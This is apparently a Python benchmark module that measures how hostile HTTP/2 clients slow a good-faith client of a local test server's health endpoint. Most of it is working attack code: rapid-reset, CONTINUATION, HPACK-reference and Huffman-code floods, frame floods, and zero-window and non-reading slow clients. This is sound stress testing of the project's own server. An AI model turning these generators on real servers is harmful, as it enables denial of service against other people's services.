"""HTTP/2 clients that mean harm: what each costs a neighbour that asks for `/v0/health`.

Run `python -m bench.hostile_h2 [ATTACK ...] [--clients N] [--other CHECKOUT]`.  Each attack runs for
a few seconds from N connections that send a megabyte a second each and come back when they are cut;
a client in good faith asks on a connection of its own every two milliseconds.  `bench.hostile_http1`
says what is printed.  Every attack gets a server of its own.
"""

import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from itertools import cycle
from typing import Final

from bench.frames import PREFACE, frame, head, literal, setting
from bench.neighbour import Ask, table
from bench.serving import Serving

TICK_S: Final = 0.01
TICK_BYTES: Final = 10_000
PAGE_BYTES: Final = 8 << 20


HELLO: Final = PREFACE + frame(4, 0, 0)
OPEN: Final = (
    PREFACE + frame(4, 0, 0, setting(4, 1 << 30)) + frame(8, 0, 0, struct.pack(">I", 1 << 30))
)
HEALTH: Final = head(b"GET", b"/v0/health")
POST: Final = head(b"POST", b"/v0/topics/t", (b"content-type", b"application/json"))
DIFF: Final = head(b"POST", b"/v0/topics/page/diff", (b"content-type", b"application/json"))


# ---------------------------------------------------------------------- attacks

Attack = Callable[[], Iterator[bytes]]
"""What one connection sends, behind its preface and SETTINGS: pieces, for ever or to an end."""


def references() -> Iterator[bytes]:
    """Heads of one byte a field: 62 references to 4 KB that was sent once."""
    yield frame(1, 5, 1, HEALTH + literal(b"x", b"y" * 4000, b"\x40"))
    for i in range(1, 1 << 20):
        yield frame(1, 5, 2 * i + 1, HEALTH + b"\xbe" * 62)


def small_references() -> Iterator[bytes]:
    """Heads of 1,500 fields of a byte each."""
    for i in range(1 << 20):
        yield frame(1, 5, 2 * i + 1, HEALTH + b"\x82" * 1500)


def burst() -> Iterator[bytes]:
    """256 KB of heads of references at once, all in one header table's terms."""
    yield frame(1, 5, 1, HEALTH + literal(b"x", b"y" * 4000, b"\x40"))
    yield b"".join(frame(1, 5, 2 * i + 1, HEALTH + b"\xbe" * 62) for i in range(1, 2000))


def same(piece: bytes, first: bytes = b"") -> Attack:
    def attack() -> Iterator[bytes]:
        yield first
        yield from cycle([piece * 16])

    return attack


def after_a_stream(piece: bytes) -> Attack:
    """Frames for a stream that is over."""
    return same(piece, frame(1, 5, 1, HEALTH))


def rapid_reset() -> Iterator[bytes]:
    for i in range(1 << 20):
        stream = 2 * i + 1
        yield frame(1, 5, stream, HEALTH) + frame(3, 0, stream, struct.pack(">I", 8))


def codes() -> Iterator[bytes]:
    """Heads with 30 KB in Huffman's code, as many as a client may send before it has to leave."""
    code = literal(b"x", b"", b"\0")[:-1] + b"\xff\xb1\xe9\x01" + b"\0" * 30_000
    block = HEALTH + code
    for i in range(1 << 20):
        yield frame(1, 1, 2 * i + 1, block[:16_000]) + frame(9, 4, 2 * i + 1, block[16_000:])


def continuation() -> Iterator[bytes]:
    yield frame(1, 1, 1, HEALTH)
    yield from cycle([frame(9, 0, 1, literal(b"x", b"y")) * 16])


def resets_after_refusals() -> Iterator[bytes]:
    """Heads that are malformed, one after the other."""
    for i in range(1 << 20):
        yield frame(1, 5, 2 * i + 1, HEALTH + literal(b"connection", b"close"))


def too_many_streams() -> Iterator[bytes]:
    for i in range(1 << 20):
        yield frame(1, 4, 2 * i + 1, POST)


def tables() -> Iterator[bytes]:
    """SETTINGS of names that nobody knows."""
    for i in range(1 << 20):
        yield frame(4, 0, 0, b"".join(setting(1000 + (30 * i + j) % 60_000, j) for j in range(30)))


ONE: Final = struct.pack(">I", 1)
FLOODS: Final[dict[str, Attack]] = {
    "references": references,
    "small references": small_references,
    "burst of references": burst,
    "WINDOW_UPDATE": same(frame(8, 0, 0, ONE)),
    "SETTINGS": same(frame(4, 0, 0, setting(4, 65_535))),
    "SETTINGS ACK": same(frame(4, 1, 0)),
    "SETTINGS unknown": tables,
    "PING": same(frame(6, 0, 0, b"12345678")),
    "PRIORITY": same(frame(2, 0, 101, struct.pack(">IB", 0, 15))),
    "unknown frames": same(frame(0xBE, 0, 0, b"x")),
    "RST_STREAM, closed": after_a_stream(frame(3, 0, 1, ONE)),
    "WINDOW_UPDATE, closed": after_a_stream(frame(8, 0, 1, ONE)),
    "empty DATA": same(frame(0, 0, 1), frame(1, 4, 1, POST)),
    "1-byte DATA": same(frame(0, 0, 1, b"x"), frame(1, 4, 1, POST)),
    "padded DATA": same(frame(0, 8, 1, b"\x0a" + bytes(10)), frame(1, 4, 1, POST)),
    "rapid reset": rapid_reset,
    "malformed heads": resets_after_refusals,
    "too many streams": too_many_streams,
    "CONTINUATION": continuation,
    "long codes": codes,
}


@dataclass(slots=True)
class Attacker:
    """One connection, which is opened again when it is cut."""

    port: int
    attack: Attack
    connection: socket.socket | None = None
    pieces: Iterator[bytes] = field(default_factory=lambda: iter(()))
    left: bytes = b""

    def tick(self) -> None:
        """Send what a hundredth of a second allows, and forget what came."""
        if self.connection is None:
            self.connection = socket.create_connection(("127.0.0.1", self.port))
            self.connection.setblocking(False)
            self.pieces, self.left = self.attack(), HELLO
        budget = TICK_BYTES
        try:
            while budget > 0:
                while len(self.left) < budget:
                    self.left += next(self.pieces)
                sent = self.connection.send(self.left[:budget])
                self.left = self.left[sent:]
                budget -= sent
        except (BlockingIOError, StopIteration):
            pass
        except OSError:
            self._leave()
            return
        try:
            while self.connection.recv(1 << 18):
                pass
            self._leave()
        except BlockingIOError:
            pass
        except OSError:
            self._leave()

    def _leave(self) -> None:
        assert self.connection is not None
        self.connection.close()
        self.connection = None


def flood(port: int, name: str, clients: int) -> None:
    attackers = [Attacker(port, FLOODS[name]) for _ in range(clients)]
    while True:
        begun_s = time.perf_counter()
        for attacker in attackers:
            attacker.tick()
        time.sleep(max(TICK_S - (time.perf_counter() - begun_s), 0.001))


def hold(port: int, name: str, clients: int) -> None:
    """Ask for pages of 8 MiB and take none of them: with a window of 0 on 100 streams, or from 50
    connections with open windows and sockets that are not read."""
    is_window = name == "window of 0"
    body = b'{"from_seq":0,"limit":10000,"max_batch_bytes":%d}' % PAGE_BYTES
    hello = PREFACE + frame(4, 0, 0, setting(4, 0)) if is_window else OPEN
    asks = b"".join(
        frame(1, 4, 2 * i + 1, DIFF) + frame(0, 1, 2 * i + 1, body)
        for i in range(100 if is_window else 2)
    )
    held = []
    for _ in range(clients if is_window else 50):
        connection = socket.create_connection(("127.0.0.1", port))
        connection.sendall(hello + asks)
        held.append(connection)
    time.sleep(3600)


HOLDS: Final = ("window of 0", "clients that do not read")


# ---------------------------------------------------------------------- the neighbour


class Asking:
    """A client in good faith, on one connection that was there before the attack."""

    def __init__(self, connection: socket.socket) -> None:
        self._connection = connection
        self._connection.settimeout(60)
        self._connection.sendall(OPEN + frame(4, 1, 0))
        self._stream = 1

    def ask(self) -> bool:
        self._connection.sendall(frame(1, 5, self._stream, HEALTH))
        self._stream += 2
        received = b""
        while not received.rstrip().endswith(b"}"):
            more = self._connection.recv(65_536)
            if not more:
                raise RuntimeError("the neighbour was cut")
            received += more
        return False


def fill(serving: Serving) -> None:
    """A topic with a page of 8 MiB."""
    data = b'{"data":"' + b"x" * 8_000 + b'"}'
    body = b'{"records":[' + b",".join([data] * 500) + b"]}"
    head = b"POST /v0/topics/page HTTP/1.1\r\nhost: 127.0.0.1\r\ncontent-type: application/json\r\n"
    head += b"connection: close\r\ncontent-length: %d\r\n\r\n" % len(body)
    for _ in range(3):
        with serving.connect() as connection:
            connection.sendall(head + body)
            answer = b""
            while more := connection.recv(65_536):
                answer += more
        if not answer.startswith(b"HTTP/1.1 20"):
            raise RuntimeError(f"not appended: {answer[:200]!r}")


@contextmanager
def setup(serving: Serving, name: str) -> Iterator[Ask]:
    if name in HOLDS:
        fill(serving)
    with serving.connect() as connection:
        yield Asking(connection).ask


def attack(port: int, name: str, clients: int) -> None:
    (hold if name in HOLDS else flood)(port, name, clients)


main = table([*FLOODS, *HOLDS], setup, attack)


if __name__ == "__main__":
    main()
